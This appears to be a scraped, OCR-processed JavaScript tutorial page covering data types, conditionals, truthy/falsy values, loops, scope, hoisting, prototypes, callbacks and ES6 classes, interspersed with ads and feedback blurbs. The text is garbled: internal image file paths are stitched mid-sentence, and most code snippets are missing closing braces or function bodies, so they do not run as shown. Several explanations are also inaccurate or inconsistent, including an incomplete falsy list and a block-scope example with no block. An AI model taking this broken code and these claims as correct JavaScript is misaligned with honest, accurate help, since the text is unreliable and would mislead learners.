  • No typedeclarations are required when variables are created
  • Data Types are important in a programming language to perform operations on the variables
// Data Types examples
var x = 10 // number variable
var x = "hi" // string variable
var x = true // boolean variable
function x { // your function code here } // function variable
var x = { } // object variable
var x = null // null variable
var x // undefined variable

5 JavaScript tricks every developer should know

Learn the simple JavaScript tricks and hacks that can save you time and make your code look beautiful and easyto read.

Module 2 - Conditionals and Collections

If Else Condition

var x = 10;
if(x == 10) {
console.log("x is 10")
else if(x < 10) {
console.log("x is less than 10")
else {
console.log("x is greater than 10")
  • if block is executed if the condition is true
  • else if block is used to specify additional conditions if the if condition is not satisfied
  • else block is executed if neither of the prior conditions is satisfied

truthy and falsy values in JavaScript

  • Boolean data types are either true or false
  • But in JS in addition to this, everything else has inherent boolean values
    • They are falsy or truthy
  • Following values are always falsy:
// falsy values
0 (zero)
"" (empty string)
NaN (a special Number value meaning Not-a-Number)
  • All other values are truthy
// truthy values
"0" // zero in quotes
"false" // false in quotes
function () {} // empty functions
[] // empty arrays
{} //empty objects• This concept is important because the inherent values can then be used in conditional logic
  • You don't have to do if(x == false) - you can just do if(!x)
if (x) {
// x is truthy
else {
// x is falsy
// it could be false, 0, "", null, undefined or NaN

For Loop

  • Loops are used to run the same code block again and again "for" given number of times
// ... your code
// This loop will be executed 10 times
for (i = 0; i < 10; i++) {
// ... your rest of the code
  • Check out the illustration above
  • It checks a condition first
  • If the condition is true it will run the code inside the loop
  • It will continue running the code inside the loop until the condition does not meet anymore
  • After that the execution will come outside the loop and continue executing the rest of the code
  • Loops come in handy when working with collections and arrays
  • Below code will iterate over an array and log all its items
var items = [1,2,3,4]for (i = 0; i < items.length; i++) {
console.log(items[i]) // 1,2,3,4

Module 3 - JavaScript Objects and Functions

Function Expressions

  • You can also create functions using another syntax
  • You can assign an anonymous function to a variable, like below -
var addMe = function(a, b) {
return a + b
var sum = addMe(1,2)
console.log(sum) // 3
  • Please note that the name of the function is assigned to the variable instead of the function
  • Result of the function remains the same

Scoping in JavaScript

  • Every variable defined in JavaScript has a scope
  • Scope determines whether the variable is accessible at a certain point or not

Two Types• Local scope
    • Available locally to a "block" of code
  • Global scope
    • Available globally everywhere

JavaScript traditionally always had function scope. JavaScript recently added block scope as a part of the new standard. You will learn about this in the Advanced JavaScript module.


  • Function parameters are locally scoped variables
  • Variables declared inside the functions are local to those functions
// global scope
var a = 1;
function one() {
console.log(a); // 1
// local scope - parameter
function two(a) {
console.log(a); // parameter value
// local scope variable
function three() {
var a = 3;
console.log(a); // 3
one(); // 1
two(2); // 2
three(); // 3

Example: JavaScript does not have block scope• In the below example value of a is logged as 4
  • This is because JavaScript function variables are scoped to the entire function
  • Even if that variable is declared in a block - in this case, the if-block
  • This phenomenon is called as Hoisting in JavaScript
var a = 1
function four(){
var a = 4
console.log(a) // logs '4', not the global value of '1'

Student Feedback

HTML To React review

JavaScript closures made super easy

The post is aimed towards explaining the most misunderstood concept in JavaScript- Closures using super simple examples. In the simplest way possible!

Module 4 - Prototypes and Prototypal Inheritance

JavaScript as Prototype-based language

  • JavaScript does not contain "classes" that defines a blueprint for the object, such as is found in C++ or Java
  • JavaScript uses functions as "classes"
  • Everything is an object in JavaScript
  • In JavaScript, objects define their own structure
  • This structure can be inherited by other objects at runtimeWhat is a prototype?

  • It is a link to another object
  • In JavaScript, objects are chained together by prototype chain
Joe -> Person -> Object -> null
  • JavaScript objects inherit properties and methods from a prototypeExample of Prototype

  • Prototype property allows you to add properties and methods to any object dynamicallyfunction Animal(name) {
this.name = name
Animal.prototype.age = 10
  • When object Cat is inherited from object Animal
    • Then Animal is the prototype object or the constructor of the Cat
var Cat = new Animal('cat')
console.log(Cat) // constructor: "Animal"
console.log(Cat.name) // cat
console.log(Cat.age) // 10

Prototypal inheritance in JavaScript supersimplified!

Simply put- JavaScript does not have the concept of "classes"!

Then how does it support inheritance, you might ask. And if it does not support inheritance, dare you call it an object oriented programming language, you might argue.

JavaScript does support inheritance. And, JavaScript is very well an object oriented programming language. But, how? You will learn everything about how JavaScript is an OOP language and what is Prototypal inheritance in JavaScript in this article.

Module 5 - Advanced JavaScript (Async JS, Closures, Method Chaining, etc.)

Hoisting in JavaScript

  • In JavaScript function declarations and variable declarations are 'hoisted'
  • Meaning variables can be used before they are declared
  • From the illustration above - refer the code below• We are logging bar variable to the console
  • But,the variable bar is defined AFTER it is being used
  • In other traditional languages - that would have been an error
  • But, JavaScript does not throw any error here
  • But, remember - the value of the variable is still undefined because the value is really assigned on AFTER it is being logged
console.log(bar) // undefined - but no error
var bar = 1

Get NordVPN Deal

Another example

// Function declarations
foo() // 1
function foo() {• The variable declarations are silently moved to the very top of the current scope
  • Functions are hoisted first, and then variables
  • But, this does not mean that assigned values (in the middle of function) will still be associated with the variable from the start of the function

  • It only means that the variable name will be recognized starting from the very beginning of the function
  • That is the reason, bar is undefined in this example
// Variabledeclarations
console.log(bar) // undefined
var bar = 1

NOTE 1: Variables and constants declared with let or const are not hoisted!

NOTE 2: Function declarations are hoisted - but function expressions are not!

function foo() {
// your logic

We get an error with Function Expressions

  • var foo is hoisted but it does not know the type foo yet
foo(); // not a ReferenceError, but gives a TypeError
var foo = function bar() {// your logic

Asynchronous JavaScript

Callback Function

  • These are functions that are executed "later"
  • Later can be any action that you'd want to be completed before calling thethe callback function
  • Callback functions are passed as arguments to the outer function

Simple example

  • In this example greet() is the outer function
  • And getName() is the callback function
  • We pass getName() function to the outer greet() function as a function argument
  • The value from getName() callbackfunction is then used in the outer function greet()
function getName() {
return "Sleepless Yogi";
function greet(callbackFn) {
// call back function is executed here
const name = callbackFn();
return "Hello " + name;
  • This was a very basic example
  • Callback functions are more often used in asynchronous programming

Student Feedback

HTML To React review

Asynchronous programming

  • This is the type of programming where actions does not take place in a predictable order
  • Example: network calls
  • When you make an HTTP call you cannot predict when the call will return
  • Therefore your program needs to consider this asynchronism to out the correct results

Example callback in asynchronous programming• In the below example we define a callback function printUser

  • This function depends on the variable name

  • So, basically until we have value for the name variable we cannot print the value

  • We then define fetchAndPrintUser function to fetch the user and then print the user's name

  • We are simulating network call using setTimeout method

  • Basically it means after 500 ms we will have the name available

    • In real world this will be a network call to some user API that queries the user database for this information
  • After we get the user's name

  • We call the callback function printUser with the name value

function printUser(name) {
function fetchAndPrintUser(printCallbackFunction) {
// simulate fake network call
setTimeout(() => {
const fakeUserName = 'Sleepless Yogi'
// We call the callback function here
}, 500)
// Execute the function to fetch user and print the user's name

Super simplified explanation of 'this' keyword in JavaScript

People coming from C++, Java, C## background often complain about JavaScript being confusing. One of their main complaints is the confusionabout the "this" keyword in JavaScript. This article will explain you "this" keyword in JavaScript in easy to understand language.

Module 6 - Next Generation JS - ES6 and Beyond

JavaScript Classes

  • Classes were introduced in ES6 standard
  • Simple Person class in JavaScript
  • You can define constructor inside the class where you can instantiate the class members
  •Constructor method is called each time the class object is initialized
class Person {
constructor(name) {
this.name = name
var john = new Person("John")

Class methods

  • You can add your functions inside classes
  • These methods have to be invoked programmatically in your code
class Person {
constructor(name) {
this.name = name
getName() {
return this.name
john.getName() // John
  • JavaScript class is just syntactic sugar for constructor functions and prototypes
  • If you use typeof operator on a class it logs it as "function"
